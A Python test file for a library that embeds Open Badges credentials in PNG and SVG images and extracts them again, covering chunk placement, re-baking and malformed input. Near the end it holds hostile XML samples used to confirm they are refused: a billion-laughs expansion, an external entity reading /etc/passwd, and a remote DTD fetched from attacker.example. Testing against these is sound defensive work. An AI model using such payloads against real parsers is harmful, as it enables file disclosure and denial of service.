"""Baking credentials into PNG and SVG images and extracting them again (OB 3.0, OB 2.0)."""

from __future__ import annotations

import io
import json
import struct
import zlib
from pathlib import Path
from typing import Any

import pytest
from PIL import Image, PngImagePlugin

from credstack.vc import errors
from credstack.vc.baking import Extracted, bake, bake_png, bake_svg, extract

DATA = Path(__file__).parent / "data" / "baking"
OB3_NS = "https://purl.imsglobal.org/ob/v3p0"
CREDENTIAL: dict[str, Any] = {
    "@context": [
        "https://www.w3.org/ns/credentials/v2",
        "https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json",
    ],
    "id": "urn:uuid:5e0b3bd2-7f3a-4f5e-9e2c-7d1c1a6b2f10",
    "type": ["VerifiableCredential", "OpenBadgeCredential"],
    "issuer": {
        "id": "https://northbridge.example/issuer",
        "type": ["Profile"],
        "name": "Northbridge",
    },
    "validFrom": "2026-01-15T09:00:00Z",
    "name": "Data Literacy — Level 2 ✓",
    "credentialSubject": {
        "id": "did:example:learner",
        "type": ["AchievementSubject"],
        "achievement": {
            "id": "https://northbridge.example/achievements/data-literacy-2",
            "type": ["Achievement"],
            "name": "Data Literacy",
            "description": "Reads <charts> & tables; handles ]]> in text.",
            "criteria": {"narrative": "Passed the assessed project."},
        },
    },
}
JWT = "eyJhbGciOiJFZERTQSJ9.eyJpc3MiOiJodHRwczovL25vcnRoYnJpZGdlLmV4YW1wbGUifQ.c2lnbmF0dXJl"


def make_png(pnginfo: PngImagePlugin.PngInfo | None = None, colour: str = "teal") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGBA", (12, 9), colour).save(buffer, "PNG", pnginfo=pnginfo)
    return buffer.getvalue()


def png_chunks(data: bytes) -> list[tuple[bytes, bytes]]:
    """(type, whole chunk bytes) for each chunk: an independent walker for comparisons."""
    chunks, position = [], 8
    while position < len(data):
        (length,) = struct.unpack_from(">I", data, position)
        end = position + 12 + length
        chunks.append((data[position + 4 : position + 8], data[position:end]))
        position = end
    return chunks


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def with_chunks(png: bytes, *extra: bytes) -> bytes:
    """Insert raw chunks right after IHDR (8-byte signature + 25-byte IHDR chunk)."""
    return png[:33] + b"".join(extra) + png[33:]


# --- PNG ---------------------------------------------------------------------------------


def test_a_json_credential_baked_into_a_png_comes_back_unchanged() -> None:
    extracted = extract(bake_png(make_png(), CREDENTIAL))
    assert extracted == Extracted(kind="png", version="ob3", credential=CREDENTIAL)


def test_a_jwt_baked_into_a_png_comes_back_unchanged() -> None:
    assert extract(bake_png(make_png(), JWT)) == Extracted(kind="png", version="ob3", jwt=JWT)


def test_the_png_chunk_is_one_uncompressed_itxt_that_pillow_reads_and_renders() -> None:
    original = make_png()
    baked = bake_png(original, CREDENTIAL)
    ours = [c for kind, c in png_chunks(baked) if kind == b"iTXt"]
    assert len(ours) == 1
    body = ours[0][8:-4]
    # keyword NUL, compression flag 0, method 0, empty language NUL, empty translation NUL
    assert body.startswith(b"openbadgecredential\x00\x00\x00\x00\x00")
    image = Image.open(io.BytesIO(baked))
    image.load()
    assert json.loads(image.text["openbadgecredential"]) == CREDENTIAL  # type: ignore[attr-defined]
    assert image.tobytes() == Image.open(io.BytesIO(original)).tobytes()


def test_the_chunk_goes_directly_after_ihdr_and_every_other_chunk_is_byte_identical() -> None:
    original = make_png()
    baked = bake_png(original, CREDENTIAL)
    kinds = [kind for kind, _ in png_chunks(baked)]
    assert kinds[:2] == [b"IHDR", b"iTXt"]
    assert [c for c in png_chunks(baked) if c[0] != b"iTXt"] == png_chunks(original)


def test_re_baking_a_png_replaces_the_credential_in_place_and_never_duplicates_it() -> None:
    info = PngImagePlugin.PngInfo()
    info.add_text("Software", "credstack tests")
    original = make_png(info)
    once = bake_png(original, CREDENTIAL)
    twice = bake_png(once, JWT)
    assert twice.count(b"openbadgecredential") == 1
    assert extract(twice).jwt == JWT
    assert [k for k, _ in png_chunks(twice)] == [k for k, _ in png_chunks(once)]
    assert [c for c in png_chunks(twice) if c[0] != b"iTXt"] == png_chunks(original)


def test_re_baking_removes_duplicate_credential_chunks_left_by_other_tools() -> None:
    info = PngImagePlugin.PngInfo()
    info.add_itxt("openbadgecredential", "a.b.c")
    info.add_itxt("openbadgecredential", "d.e.f")
    baked = bake_png(make_png(info), JWT)
    assert baked.count(b"openbadgecredential") == 1
    assert extract(baked).jwt == JWT


def test_baking_keeps_bytes_that_trail_iend() -> None:
    original = make_png() + b"trailing"
    assert bake_png(original, JWT).endswith(b"IEND\xaeB`\x82trailing")


def test_it_reads_a_compressed_itxt_written_by_pillow() -> None:
    info = PngImagePlugin.PngInfo()
    info.add_itxt("openbadgecredential", json.dumps(CREDENTIAL), zip=True)
    assert extract(make_png(info)).credential == CREDENTIAL


def test_it_reads_an_open_badges_2_png_assertion() -> None:
    assertion = {
        "@context": "https://w3id.org/openbadges/v2",
        "type": "Assertion",
        "id": "https://x.example/a/1",
    }
    info = PngImagePlugin.PngInfo()
    info.add_itxt("openbadges", json.dumps(assertion))
    assert extract(make_png(info)) == Extracted(kind="png", version="ob2", credential=assertion)


def test_it_reads_a_pre_2_0_png_holding_a_hosted_assertion_url_in_text() -> None:
    info = PngImagePlugin.PngInfo()
    info.add_text("openbadges", "https://badges.example/assertions/77")
    assert extract(make_png(info)) == Extracted(
        kind="png", version="ob2", url="https://badges.example/assertions/77"
    )


def test_an_ob3_credential_wins_over_an_ob2_assertion_in_the_same_png() -> None:
    info = PngImagePlugin.PngInfo()
    info.add_itxt("openbadges", "https://badges.example/assertions/77")
    baked = bake_png(make_png(info), CREDENTIAL)
    assert extract(baked).version == "ob3"


def test_a_plain_png_carries_no_credential() -> None:
    with pytest.raises(errors.CredentialNotBaked):
        extract(make_png())


def test_a_text_chunk_named_openbadgecredential_is_not_an_ob3_credential() -> None:
    info = PngImagePlugin.PngInfo()
    info.add_text("openbadgecredential", JWT)
    with pytest.raises(errors.CredentialNotBaked):
        extract(make_png(info))


@pytest.mark.parametrize(
    ("body", "error"),
    [
        (b"openbadgecredential\x00\x00", errors.ImageMalformed),  # ends inside the header
        (b"openbadgecredential\x00\x02\x00\x00\x00a.b.c", errors.ImageMalformed),  # bad flag
        (b"openbadgecredential\x00\x00\x00\x00a.b.c", errors.ImageMalformed),  # one NUL short
        (b"openbadgecredential\x00\x00\x00\x00\x00\xff\xfe", errors.BakedPayloadMalformed),
        (b"openbadgecredential\x00\x01\x00\x00\x00not zlib", errors.ImageMalformed),
        (
            b"openbadgecredential\x00\x01\x00\x00\x00" + zlib.compress(b"a.b.c")[:-3],
            errors.ImageMalformed,
        ),
        (b"openbadgecredential\x00\x00\x00\x00\x00{not json", errors.BakedPayloadMalformed),
        (b'openbadgecredential\x00\x00\x00\x00\x00{"n": NaN}', errors.BakedPayloadMalformed),
        (
            b"openbadgecredential\x00\x00\x00\x00\x00https://x.example/a",
            errors.BakedPayloadMalformed,
        ),
        (b"openbadgecredential\x00\x00\x00\x00\x00" + b"{" * 100_000, errors.BakedPayloadMalformed),
    ],
)
def test_a_malformed_credential_chunk_raises_a_coded_extraction_error(
    body: bytes, error: type
) -> None:
    with pytest.raises(error) as caught:
        extract(with_chunks(make_png(), chunk(b"iTXt", body)))
    assert isinstance(caught.value, errors.ExtractionError)
    assert caught.value.code == error.code


@pytest.mark.parametrize(
    "mutate",
    [
        lambda png: png[:-20],  # truncated, no IEND
        lambda png: png[:24] + b"\x10" + png[25:],  # IHDR bit depth changed: CRC mismatch
        lambda png: png[:8] + b"\x7f\xff\xff\xff" + png[12:],  # length far past the data
        lambda png: png[:8] + b"\xff\xff\xff\xff" + png[12:],  # length over 2^31-1
        lambda png: png[:12] + b"IH1R" + png[16:],  # chunk type not letters
        lambda png: png[:8] + chunk(b"tEXt", b"a\x00b") + png[8:],  # first chunk is not IHDR
    ],
)
def test_a_corrupt_png_raises_image_malformed(mutate: Any) -> None:
    with pytest.raises(errors.ImageMalformed):
        extract(mutate(make_png()))
    with pytest.raises(errors.ImageMalformed):
        bake_png(mutate(make_png()), JWT)


def test_a_broken_png_signature_is_unsupported_to_extract_and_malformed_to_bake() -> None:
    broken = b"\x89PNG\r\n\x1a\x00" + make_png()[8:]
    with pytest.raises(errors.ImageUnsupported):
        extract(broken)
    with pytest.raises(errors.ImageMalformed):
        bake_png(broken, JWT)


def test_oversized_text_is_refused() -> None:
    info = PngImagePlugin.PngInfo()
    info.add_itxt("openbadgecredential", "a." + "b" * 5000 + ".c")
    info.add_text("openbadges", "https://x.example/" + "a" * 5000)
    png = make_png(info)
    with pytest.raises(errors.ImageTooLarge):
        extract(png, max_text_bytes=1000)
    ob2_only = PngImagePlugin.PngInfo()
    ob2_only.add_text("openbadges", "https://x.example/" + "a" * 5000)
    with pytest.raises(errors.ImageTooLarge):
        extract(make_png(ob2_only), max_text_bytes=1000)


# --- SVG ---------------------------------------------------------------------------------


def test_it_extracts_the_1edtech_json_svg_fixture() -> None:
    extracted = extract((DATA / "simple-json.svg").read_bytes())
    assert (extracted.kind, extracted.version) == ("svg", "ob3")
    assert extracted.credential is not None
    assert extracted.credential["id"] == "http://example.edu/credentials/3732"
    assert extracted.credential["proof"][0]["type"] == "Ed25519Signature2020"


def test_it_extracts_the_1edtech_jwt_svg_fixture() -> None:
    extracted = extract((DATA / "simple-jwt.svg").read_bytes())
    assert extracted.jwt is not None
    assert extracted.jwt.startswith("eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.")
    assert extracted.jwt.endswith("HBpsAigdmIpA")


SIMPLE_SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 512 512" data-x="a>b">\n'
    b'  <circle cx="256" cy="256" r="200" fill="#0a7"/>\n</svg>\n'
)


def test_a_json_credential_baked_into_an_svg_comes_back_unchanged() -> None:
    baked = bake_svg(SIMPLE_SVG, CREDENTIAL)
    assert extract(baked) == Extracted(kind="svg", version="ob3", credential=CREDENTIAL)
    assert b"<![CDATA[" in baked


def test_a_jwt_baked_into_an_svg_goes_in_the_verify_attribute() -> None:
    baked = bake_svg(SIMPLE_SVG, JWT)
    assert f'<openbadges:credential verify="{JWT}"></openbadges:credential>'.encode() in baked
    assert extract(baked) == Extracted(kind="svg", version="ob3", jwt=JWT)


def test_the_svg_element_follows_the_root_tag_and_the_drawing_is_untouched() -> None:
    baked = bake_svg(SIMPLE_SVG, JWT)
    root_tag = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 512 512" data-x="a>b"'
    declaration = f' xmlns:openbadges="{OB3_NS}">'.encode()
    element = f'<openbadges:credential verify="{JWT}"></openbadges:credential>'.encode()
    assert baked == SIMPLE_SVG.replace(root_tag + b">", root_tag + declaration + element)


def test_re_baking_an_svg_replaces_the_credential_and_keeps_the_rest() -> None:
    for fixture in ("simple-json.svg", "simple-jwt.svg"):
        original = (DATA / fixture).read_bytes()
        rebaked = bake_svg(original, CREDENTIAL)
        assert rebaked.count(b"<openbadges:credential") == 1
        assert extract(rebaked).credential == CREDENTIAL
        tail = original[original.index(b"</openbadges:credential>") + 24 :]
        assert rebaked.endswith(tail)
        assert rebaked.count(b"xmlns:openbadges") == 1


def test_re_baking_removes_an_empty_element_credential_and_nested_duplicates() -> None:
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:ob="{OB3_NS}">'
        '<ob:credential verify="a.b.c"/><g><ob:credential>x<ob:credential/></ob:credential></g></svg>'
    ).encode()
    baked = bake_svg(svg, JWT)
    assert b"ob:credential" not in baked
    assert baked.endswith(b"<g></g></svg>")
    assert extract(baked).jwt == JWT


def test_a_self_closing_svg_root_is_opened_to_hold_the_credential() -> None:
    baked = bake_svg(b'<svg:svg xmlns:svg="http://www.w3.org/2000/svg"/>', JWT)
    assert baked.endswith(b"</openbadges:credential></svg:svg>")
    assert extract(baked).jwt == JWT


def test_an_ob2_baked_svg_keeps_its_assertion_and_gains_a_scoped_ob3_prefix() -> None:
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">'
        b'<openbadges:assertion verify="https://badges.example/a/1"/></svg>'
    )
    baked = bake_svg(svg, JWT)
    assert f'<openbadges:credential xmlns:openbadges="{OB3_NS}" verify='.encode() in baked
    assert extract(baked).jwt == JWT
    assert extract(svg) == Extracted(kind="svg", version="ob2", url="https://badges.example/a/1")


def test_it_reads_an_ob2_svg_assertion_in_cdata_or_as_a_signed_jws() -> None:
    assertion = {"type": "Assertion", "id": "https://badges.example/a/2"}
    cdata = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">'
        f"<openbadges:assertion><![CDATA[{json.dumps(assertion)}]]></openbadges:assertion></svg>"
    ).encode()
    signed = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">'
        f'<openbadges:assertion verify="{JWT}"/></svg>'
    ).encode()
    assert extract(cdata).credential == assertion
    assert extract(signed) == Extracted(kind="svg", version="ob2", jwt=JWT)


def test_extraction_stops_at_the_first_credential_element() -> None:
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{OB3_NS}">'
        f'<openbadges:credential verify="{JWT}"/><openbadges:credential verify="x.y.z"/><g>'
    ).encode()  # the document is not even finished: the spec says the rest may be discarded
    assert extract(svg).jwt == JWT


def test_baking_refuses_a_utf16_svg() -> None:
    with pytest.raises(errors.BakingError):
        bake_svg(SIMPLE_SVG.decode().encode("utf-16"), JWT)
    with pytest.raises(errors.BakingError):
        bake_svg(b'<?xml version="1.0" encoding="UTF-16"?><svg/>', JWT)


def test_a_utf16_svg_can_still_be_read() -> None:
    baked = bake_svg(SIMPLE_SVG, JWT).decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    assert extract(baked.encode("utf-16")).jwt == JWT


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>
<svg xmlns="http://www.w3.org/2000/svg">&d;</svg>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">
<openbadges:credential>&xxe;</openbadges:credential></svg>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>"""


@pytest.mark.parametrize("hostile", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY])
def test_an_svg_declaring_entities_is_refused_as_unsafe(hostile: bytes) -> None:
    with pytest.raises(errors.UnsafeXml):
        extract(hostile)
    with pytest.raises(errors.UnsafeXml):
        bake_svg(hostile, JWT)


def test_deeply_nested_svg_is_refused_as_unsafe() -> None:
    deep = b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g>" * 5000 + b"</g>" * 5000 + b"</svg>"
    with pytest.raises(errors.UnsafeXml):
        extract(deep)
    assert bake_svg(deep, JWT, max_depth=6000).count(b"<g>") == 5000


@pytest.mark.parametrize(
    ("document", "error"),
    [
        (b"<svg xmlns='http://www.w3.org/2000/svg'><g></svg>", errors.ImageMalformed),
        (b"<svg", errors.ImageMalformed),
        (b"<html><body/></html>", errors.ImageUnsupported),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><g/></svg>", errors.CredentialNotBaked),
        (
            f"<svg xmlns:o='{OB3_NS}'><o:credential>plain words</o:credential></svg>".encode(),
            errors.BakedPayloadMalformed,
        ),
        (
            f"<svg xmlns:o='{OB3_NS}'><o:credential verify='  '>[1]</o:credential></svg>".encode(),
            errors.BakedPayloadMalformed,
        ),
    ],
)
def test_a_bad_svg_raises_a_coded_extraction_error(document: bytes, error: type) -> None:
    with pytest.raises(error):
        extract(document)


def test_oversized_svg_text_is_refused() -> None:
    svg = f"<svg xmlns:o='{OB3_NS}'><o:credential verify='a.{'b' * 3000}.c'/></svg>".encode()
    with pytest.raises(errors.ImageTooLarge):
        extract(svg, max_text_bytes=1000)


# --- sniffing, caps and bad credentials --------------------------------------------------


@pytest.mark.parametrize(
    "data", [b"", b"GIF89a....", b"\x00" * 64, b"%PDF-1.7", b'{"@context": []}']
)
def test_bytes_that_are_neither_png_nor_svg_are_unsupported(data: bytes) -> None:
    with pytest.raises(errors.ImageUnsupported):
        extract(data)


def test_the_type_is_sniffed_from_content_and_a_bom_or_whitespace_is_allowed() -> None:
    baked = bake_svg(SIMPLE_SVG, JWT)
    assert extract(b"\xef\xbb\xbf  \n" + baked.split(b"?>", 1)[1]).jwt == JWT
    assert extract(bytearray(bake_png(make_png(), JWT))).kind == "png"


def test_bake_dispatches_on_the_image_content() -> None:
    assert extract(bake(make_png(), JWT)).kind == "png"
    assert extract(bake(SIMPLE_SVG, JWT)).kind == "svg"


def test_images_over_the_size_cap_are_refused_before_parsing() -> None:
    with pytest.raises(errors.ImageTooLarge):
        extract(make_png(), max_bytes=50)
    with pytest.raises(errors.ImageTooLarge):
        bake_png(make_png(), JWT, max_bytes=50)


def test_an_image_that_is_not_bytes_is_unsupported() -> None:
    with pytest.raises(errors.ImageUnsupported):
        extract("<svg/>")  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "credential",
    [
        "not a jws",
        "a.b",
        ["VerifiableCredential"],
        {"value": float("nan")},
        {"value": {1, 2}},
    ],
)
def test_a_credential_that_cannot_be_baked_raises_baking_error(credential: Any) -> None:
    with pytest.raises(errors.BakingError):
        bake_png(make_png(), credential)
    with pytest.raises(errors.BakingError):
        bake_svg(SIMPLE_SVG, credential)
